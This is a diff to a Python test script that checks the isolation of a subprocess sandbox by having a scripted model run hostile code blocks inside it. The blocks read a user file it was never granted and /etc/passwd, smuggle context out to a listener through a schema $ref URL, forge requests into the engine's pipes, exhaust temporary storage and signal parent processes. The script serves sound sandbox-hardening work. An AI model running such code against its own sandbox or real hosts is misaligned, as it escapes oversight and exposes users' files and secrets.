@@ -7,7 +7,8 @@ to test, else ``{"response": ..., "outputs": [REPL output of each block], "repor
 
 Environment: ``ATTACK_SITE`` (a site-packages folder to add first, for an interpreter
 other than the venv's), ``OPENAI_API_KEY`` (the planted key, read here and kept in
-memory as an ``api_key=`` would be).
+memory as an ``api_key=`` would be), ``ATTACK_PLANTED`` (a file of the user's the guest
+was not granted), ``ATTACK_LISTENER`` (a server a schema reference must never reach).
 """
 
 from __future__ import annotations
@@ -108,7 +109,93 @@ except OSError as exc:
     print(json.dumps({'forks': forks, 'stopped_by': type(exc).__name__}))
 """
 
+READ_FILES = r"""
+import json
+seen = {}
+for path in PATHS:
+    try:
+        with open(path) as handle:
+            seen[path] = 'read: ' + handle.read()[:20]
+    except OSError as exc:
+        seen[path] = type(exc).__name__
+print(json.dumps(seen))
+"""
+
+SCHEMA_REF = r"""
+import json
+print(json.dumps({'ref': llm_query('q', schema={'$ref': URL + '/x?d=' + context})}))
+"""
+
+FORGE_PIPE = r"""
+import json, os, stat
+line = {'type': 'subcall', 'id': 0,
+        'request': {'fn': 'llm_query', 'prompts': ['forged'], 'model': None, 'json_schema': None}}
+big = {**line, 'request': {**line['request'], 'prompts': ['x' * (4 << 20)]}}
+out = [fd for fd in map(int, os.listdir('/proc/self/fd'))
+       if os.path.exists(f'/proc/self/fd/{fd}') and stat.S_ISFIFO(os.fstat(fd).st_mode)]
+for fd in out:
+    try:
+        for i, forged in enumerate([line] * 2000 + [big] * 12):
+            forged['id'] = 10_000_000 + i
+            os.write(fd, (json.dumps(forged) + '\n').encode())
+    except OSError:  # the read end of a pipe
+        pass
+print(json.dumps({'real': llm_query('real')}))
+"""
+
+PARK = r"""
+import errno, json, os
+parked = {}
+for folder in ('/dev/shm', '/tmp', '/var/tmp', os.getcwd()):
+    written = 0
+    try:
+        name = MARK + folder.replace('/', '-')  # three names, for one file system
+        with open(os.path.join(folder, name), 'wb') as handle:
+            while written < 600 * 2**20:
+                handle.write(b'x' * 2**20)
+                handle.flush()
+                written += 2**20
+    except OSError as exc:
+        parked[folder] = [written >> 20, errno.errorcode.get(exc.errno, '?')]
+    else:
+        parked[folder] = [written >> 20, 'no error']
+print(json.dumps(parked))
+"""
+
 MAX_PROCESSES = 40
+MEMORY_LIMIT_MB = 256
+
+
+class InFlight:
+    """A listener: the most ``llm_call`` nodes running at once."""
+
+    def __init__(self) -> None:
+        self.now = self.peak = 0
+
+    def __call__(self, event: object) -> None:
+        from rlm_graph.events import NodeFinished, NodeStarted
+
+        if isinstance(event, NodeStarted) and event.kind == "llm_call":
+            self.now += 1
+            self.peak = max(self.peak, self.now)
+        elif isinstance(event, NodeFinished) and event.kind == "llm_call":
+            self.now -= 1
+
+
+def attacks(engine_pid: int) -> list[str]:
+    """The blocks the root model writes, in order."""
+    planted = os.environ["ATTACK_PLANTED"]
+    return [
+        READ_PROC,
+        SIGNAL_ENGINE,
+        SIGNAL_PARENT,
+        SPAWN,
+        READ_FILES.replace("PATHS", repr([planted, "/etc/passwd"])),
+        SCHEMA_REF.replace("URL", repr(os.environ["ATTACK_LISTENER"])),
+        FORGE_PIPE,
+        PARK.replace("MARK", repr(f"park-{engine_pid}")),
+        "FINAL('the engine is still here')",
+    ]
 
 
 def leftovers(marks: list[str]) -> list[str]:
@@ -129,6 +216,7 @@ def leftovers(marks: list[str]) -> list[str]:
 
 async def main() -> None:
     from rlm_graph import RLM
+    from rlm_graph_subprocess.boundaries import GuestLimits
     from rlm_graph_subprocess.isolation import choose_isolation
 
     planted = os.environ["OPENAI_API_KEY"]
@@ -138,8 +226,9 @@ async def main() -> None:
         why = "; ".join(isolation.refused) or isolation.describe()
         print(json.dumps({"skip": f"no PID namespace and no unprivileged user here: {why}"}))
         return
-    blocks = [READ_PROC, SIGNAL_ENGINE, SIGNAL_PARENT, SPAWN, "FINAL('the engine is still here')"]
+    blocks = attacks(os.getpid())
     outputs: list[str] = []
+    in_flight = InFlight()
 
     def respond(request: object) -> str:
         messages = request.messages  # type: ignore[attr-defined]
@@ -156,7 +245,8 @@ async def main() -> None:
         "scripted",
         {"respond": respond},
         environment="subprocess",
-        environment_kwargs={"max_processes": MAX_PROCESSES},
+        environment_kwargs={"max_processes": MAX_PROCESSES, "memory_limit_mb": MEMORY_LIMIT_MB},
+        listeners=[in_flight],
     )
     result = await rlm.acompletion(str(os.getpid()))
     # Closing the environment ended the guest; give the kernel a moment to reap.
@@ -173,6 +263,11 @@ async def main() -> None:
                 "report": isolation.describe(),
                 "leftovers": leftovers(marks),
                 "max_processes": MAX_PROCESSES,
+                "landlock": isolation.landlock,
+                "private_tmp": isolation.private_tmp,
+                "tmp_mb": GuestLimits.from_kwargs({"memory_limit_mb": MEMORY_LIMIT_MB}).tmp_mb,
+                "peak_calls": in_flight.peak,
+                "parked": f"park-{os.getpid()}",
             }
         )
     )
